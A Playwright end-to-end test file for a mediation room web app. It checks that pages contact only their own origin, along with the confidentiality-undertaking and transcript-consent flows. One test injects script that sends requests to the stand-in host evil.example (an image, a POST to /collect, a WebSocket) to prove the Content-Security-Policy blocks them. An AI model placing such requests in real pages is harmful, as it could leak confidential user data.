"""Confidentiality in real browsers, against a real Daphne process.

* A room page talks to nobody but the site: every request it makes while it
  loads, connects its WebSocket, sends a message, shares a document and
  loads again goes to the site's own origin (http:// and ws://), and the
  Content-Security-Policy reports no violation; a request to another site is
  refused by that policy, so the listener is shown to work.
* Someone who has not accepted the confidentiality undertaking and follows a
  room link is taken through it (tick, accept) and on into the room; the
  post goes through with no Referer and `Origin: null`.
* Both parties consent to a transcript on the room page; only then is the
  mediator's export button enabled (withdrawing disables it again).
"""

import re
import time
import uuid
from dataclasses import dataclass, field
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from sessions.models import ConfidentialityUndertaking, EventKind, RoomEvent
from sessions.services import confidentiality, rooms
from tests.case_fixtures import accept_atm, accept_undertaking
from tests.e2e import test_browser_room as room_page
from tests.e2e.conftest import DEFAULT_TIMEOUT_MS
from tests.e2e.test_browser_room import admit, english, off_the_loop
from tests.sealed import document_name, messages_of

pytestmark = [pytest.mark.e2e, pytest.mark.django_db(transaction=True)]

# The room's browser fixtures: a Daphne process, signed-in browser contexts
# that fail the test on a console error, an active case (in session).
server, people, setting, in_session = (
    room_page.server,
    room_page.people,
    room_page.setting,
    room_page.in_session,
)

EVIL = "evil.example"
# Reports each violation to the test, across navigations (exposed binding).
CSP_LISTENER = """
document.addEventListener("securitypolicyviolation", (e) => {
  window.__odrCspViolation({
    directive: e.effectiveDirective, blocked: e.blockedURI, page: e.documentURI,
    source: e.sourceFile, line: e.lineNumber, sample: e.sample, disposition: e.disposition,
  });
}, true);
"""
# What Chromium says in the console when the policy refuses something: an
# error the `people` fixture fails on, expected only in the canary below.
CSP_REFUSAL = r"Refused to (load|execute|connect|apply)|violates the (following|document's) Content Security Policy"


@dataclass
class Traffic:
    """Everything one browser context asked for."""

    requests: list = field(default_factory=list)  # (method, url)
    sockets: list = field(default_factory=list)  # url
    violations: list = field(default_factory=list)  # securitypolicyviolation details
    failed: dict = field(default_factory=dict)  # url -> why the browser did not send it
    answered: list = field(default_factory=list)  # url of every response
    posts: list = field(default_factory=list)  # every POST request, to read its headers

    def urls(self) -> list[str]:
        return [url for _method, url in self.requests] + self.sockets

    def paths(self, method: str | None = None) -> set[str]:
        return {urlsplit(url).path for m, url in self.requests if method in (None, m)}


def record(person) -> Traffic:
    """Listen before the first navigation: every request of the context (its
    pages and workers), every WebSocket, every CSP violation."""
    traffic = Traffic()
    page = person.page
    page.context.on(
        "request", lambda request: traffic.requests.append((request.method, request.url))
    )
    page.context.on(
        "request", lambda request: request.method == "POST" and traffic.posts.append(request)
    )
    page.context.on(
        "requestfailed", lambda request: traffic.failed.update({request.url: request.failure})
    )
    page.context.on("response", lambda response: traffic.answered.append(response.url))
    page.on("websocket", lambda socket: traffic.sockets.append(socket.url))
    page.expose_function(
        "__odrCspViolation", lambda violation: traffic.violations.append(violation)
    )
    page.add_init_script(CSP_LISTENER)
    return traffic


def origin_of(url: str) -> str:
    parts = urlsplit(url)
    return f"{parts.scheme}://{parts.netloc}"


def wait_until(page, condition, message: str, timeout_ms: int = DEFAULT_TIMEOUT_MS):
    deadline = time.monotonic() + timeout_ms / 1000
    while not condition():
        assert time.monotonic() < deadline, message
        page.wait_for_timeout(50)


def test_when_room_page_loads_connects_and_sends_then_every_request_stays_on_the_site_and_csp_reports_nothing(
    in_session, server, people
):
    setting = in_session
    site = {server.url, server.url.replace("http://", "ws://", 1)}
    room_path = f"/rooms/{setting.joint.public_id}/"
    ws_url = f"ws://127.0.0.1:{server.port}/ws/rooms/{setting.joint.public_id}/"
    marker = uuid.uuid4().hex
    said = f"Our last offer is 450 000 tenge ({marker})"

    mediator = people(setting.mediator)
    mediator_traffic = record(mediator)
    mediator.open(setting.joint, server)
    party = people(setting.party_a)
    party_traffic = record(party)
    party.page.clock.install()  # time flows; the test may jump it forward
    party.open(setting.joint, server)
    admit(mediator, party)

    # A message, both ways, after a pause long enough for the page to renew
    # the session over HTTP (at most every two minutes)…
    party.page.clock.fast_forward("02:01")
    party.say(said)
    expect(mediator.messages(said)).to_have_count(1)
    expect(party.messages(said)).not_to_have_class(re.compile(r"\bpending\b"))
    mediator.say("Noted.")
    expect(party.messages("Noted.")).to_have_count(1)
    # …a shared document (the page's own fetch)…
    party.page.locator("#file").set_input_files(
        files=[
            {
                "name": "offer.txt",
                "mimeType": "text/plain",
                "buffer": b"450 000 tenge, paid in May.",
            }
        ]
    )
    party.page.get_by_role("button", name="Share", exact=True).click()
    expect(party.page.locator("#upload-status")).to_have_text("Shared.")
    expect(mediator.log.locator("li.event", has_text="offer.txt")).to_have_count(1)
    # …and both pages loaded again, the history coming with them.
    for person in (party, mediator):
        person.page.reload()
        expect(person.connection).to_have_text("Connected")
        expect(person.messages(said)).to_have_count(1)

    for traffic in (party_traffic, mediator_traffic):
        # Nothing outside the site…
        outside = [url for url in traffic.urls() if origin_of(url) not in site]
        assert outside == [], outside
        # …no CSP violation reported by the page…
        assert traffic.violations == []
        # …nothing said in any URL, and the socket's URL is the room's id only…
        assert [url for url in traffic.urls() if marker in url or "offer" in url] == []
        assert set(traffic.sockets) == {ws_url}
        assert len(traffic.sockets) >= 2  # connected, and again after the reload
        # …and what was recorded is the whole page, not a fragment of it.
        assert {
            room_path,
            "/static/odr/site.css",
            "/static/odr/site.js",
            "/static/mediation/room.css",
            "/static/mediation/room.js",
        } <= traffic.paths("GET")
    assert f"{room_path}documents/" in party_traffic.paths("POST")
    # Sending after a pause renewed the session over HTTP, on the site too.
    assert "/session/keepalive" in party_traffic.paths("GET")
    assert [m.text for m in messages_of(setting.case)] == [said, "Noted."]
    document = RoomEvent.objects.get(room=setting.joint, kind=EventKind.DOCUMENT).document
    assert document_name(document) == "offer.txt"

    # The canary: the policy refuses what the page might be made to fetch from
    # another site, the listener reports it, and nothing leaves.
    party.allow(CSP_REFUSAL)
    party.page.evaluate(
        """(host) => {
            const img = document.createElement("img");
            img.src = `http://${host}/pixel.png`;
            document.body.append(img);
            const script = document.createElement("script");
            script.textContent = "window.__inline = 1";
            document.body.append(script);
            fetch(`http://${host}/collect`, {method: "POST", body: "x", mode: "no-cors"}).catch(() => {});
            try { new WebSocket(`ws://${host}/ws`); } catch (e) {}
        }""",
        EVIL,
    )
    wait_until(
        party.page,
        lambda: len(party_traffic.violations) >= 4,
        f"the CSP listener reported {party_traffic.violations}",
    )
    refused = {
        (v["directive"], origin_of(v["blocked"]) if "://" in v["blocked"] else v["blocked"])
        for v in party_traffic.violations
    }
    assert {
        ("img-src", f"http://{EVIL}"),
        ("script-src-elem", "inline"),
        ("connect-src", f"http://{EVIL}"),
        ("connect-src", f"ws://{EVIL}"),
    } <= refused, refused
    assert all(v["disposition"] == "enforce" for v in party_traffic.violations)
    assert party.page.evaluate("typeof window.__inline") == "undefined"
    # Chromium announces the image request, then blocks it before it leaves.
    tried = [url for _m, url in party_traffic.requests if EVIL in url]
    wait_until(
        party.page,
        lambda: set(tried) <= set(party_traffic.failed),
        f"{tried} neither failed nor went",
    )
    assert {party_traffic.failed[url] for url in tried} <= {"csp", "net::ERR_BLOCKED_BY_CSP"}, (
        party_traffic.failed
    )
    assert [url for url in party_traffic.answered if EVIL in url] == []


# --- The undertaking on the way in -------------------------------------------------------------


@pytest.fixture
def undertaking_pending(accepted_case, party_a, party_b, mediator, origin):
    """An active case in session whose claimant has not accepted the
    confidentiality undertaking; everyone else has."""
    for user in (party_a, party_b, mediator):
        accept_atm(accepted_case, user, origin)
    for user in (party_b, mediator):
        accept_undertaking(accepted_case, user, origin)
    accepted_case.refresh_from_db()
    joint = rooms.room_joint(accepted_case)
    off_the_loop(rooms.session_start, room=joint, user=mediator)
    return accepted_case, joint


def test_when_participant_has_not_accepted_the_undertaking_then_the_room_link_leads_through_it_into_the_room(
    undertaking_pending, party_a, mediator, server, people
):
    case, joint = undertaking_pending
    room_url = f"{server.url}/rooms/{joint.public_id}/"
    undertaking_url = f"{server.url}/cases/{case.public_id}/undertaking/"
    claimant = people(english(party_a))
    traffic = record(claimant)
    page = claimant.page

    page.goto(room_url)

    expect(page).to_have_url(re.compile(re.escape(undertaking_url) + r"\?next=%2Frooms%2F"))
    expect(page.get_by_role("heading", level=1)).to_have_text("Confidentiality undertaking")
    expect(page.locator("pre.agreement-text")).to_contain_text(case.reference)
    expect(page.locator("#log")).to_have_count(0)
    assert traffic.sockets == []  # no socket before the undertaking
    # Without the tick the browser does not send the form.
    accept = page.get_by_role("button", name="Accept and continue")
    accept.click()
    expect(page).to_have_url(re.compile(re.escape(undertaking_url)))
    assert not ConfidentialityUndertaking.objects.filter(case=case, user=party_a).exists()

    page.get_by_label("I have read the confidentiality undertaking and accept it.").check()
    accept.click()

    expect(page).to_have_url(room_url)
    expect(page.locator(".messages")).to_contain_text(
        "You accepted the confidentiality undertaking."
    )
    expect(claimant.connection).to_have_text("Connected")
    expect(page.locator("#lobby")).to_be_visible()  # the mediator lets them in, as anyone
    undertaking = ConfidentialityUndertaking.objects.get(case=case, user=party_a)
    text = confidentiality.undertaking_render(case=case, language="en")
    assert undertaking.text_version == confidentiality.UNDERTAKING_VERSION
    assert undertaking.text_language == "en"
    assert undertaking.text_sha256 == confidentiality.undertaking_digest(text)
    assert undertaking.ip == "127.0.0.1"
    assert "Chrome" in undertaking.user_agent
    # The form was posted the way a no-referrer page posts (no Referer,
    # `Origin: null`, the browser's `Sec-Fetch-Site`), and accepted.
    [post] = [p for p in traffic.posts if p.url.split("?")[0] == undertaking_url]
    headers = post.all_headers()
    assert "referer" not in headers
    assert headers["origin"] == "null"
    assert headers["sec-fetch-site"] == "same-origin"
    assert traffic.violations == []
    # From now on the room link opens the room.
    page.goto(room_url)
    expect(page).to_have_url(room_url)
    expect(claimant.connection).to_have_text("Connected")


# --- Transcript consent --------------------------------------------------------------------------


def test_when_both_parties_consent_in_the_room_then_the_mediators_export_button_is_enabled(
    in_session, server, people
):
    setting = in_session
    mediator = people(setting.mediator)
    mediator.open(setting.joint, server)
    claimant = people(setting.party_a)
    claimant.open(setting.joint, server)
    admit(mediator, claimant)
    respondent = people(setting.party_b)
    respondent.open(setting.joint, server)
    admit(mediator, respondent)
    # The consent form is rendered with the page: it appears once the party,
    # admitted, loads the room again.
    for party in (claimant, respondent):
        party.page.reload()
        expect(party.connection).to_have_text("Connected")
        expect(party.page.locator("#consent-give")).to_be_visible()
    export = mediator.page.locator("#transcript-export")
    consents = mediator.page.locator("#transcript .consents")
    expect(export).to_be_disabled()
    expect(mediator.page.locator("#consent-give")).to_have_count(0)  # the mediator does not consent

    def consent(party, button_id, answer):
        party.page.locator(button_id).click()
        expect(party.page.locator(".messages")).to_contain_text(answer)
        expect(party.connection).to_have_text("Connected")

    def reload_mediator():
        mediator.page.reload()
        expect(mediator.connection).to_have_text("Connected")

    consent(claimant, "#consent-give", "You consented to a transcript of this room.")
    expect(claimant.page.locator("#consent-withdraw")).to_be_visible()
    expect(
        mediator.log.locator(
            "li.event", has_text="Aliya Claimant consented to a transcript of this room"
        )
    ).to_have_count(1)
    reload_mediator()
    expect(consents).to_contain_text("Aliya Claimant: consents")
    expect(consents).to_contain_text("Bolat Respondent: has not consented")
    expect(export, "one party's consent is not enough").to_be_disabled()

    consent(respondent, "#consent-give", "You consented to a transcript of this room.")
    reload_mediator()
    expect(consents).to_contain_text("Bolat Respondent: consents")
    expect(export).to_be_enabled()

    consent(
        claimant, "#consent-withdraw", "You withdrew your consent to a transcript of this room."
    )
    reload_mediator()
    expect(consents).to_contain_text("Aliya Claimant: has not consented")
    expect(export, "a withdrawn consent disables the export again").to_be_disabled()
    assert list(
        RoomEvent.objects.filter(
            room=setting.joint, kind__in=[EventKind.CONSENT_GIVEN, EventKind.CONSENT_WITHDRAWN]
        )
        .order_by("seq")
        .values_list("actor__user__display_name", "kind")
    ) == [
        ("Aliya Claimant", EventKind.CONSENT_GIVEN),
        ("Bolat Respondent", EventKind.CONSENT_GIVEN),
        ("Aliya Claimant", EventKind.CONSENT_WITHDRAWN),
    ]
